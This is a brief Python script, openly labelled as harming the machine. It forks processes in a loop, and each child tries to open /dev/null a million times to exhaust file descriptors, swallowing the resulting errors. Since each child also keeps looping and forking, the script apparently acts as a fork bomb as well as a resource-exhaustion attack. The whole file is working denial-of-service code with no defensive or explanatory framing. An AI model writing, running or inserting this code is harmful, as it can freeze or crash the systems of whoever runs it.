"""Opens files until none can be opened, in a hundred processes."""
# harms: the machine

import os

for _ in range(100):
    try:
        if os.fork() == 0:
            hoard = [open("/dev/null") for _ in range(10**6)]
    except OSError:
        pass
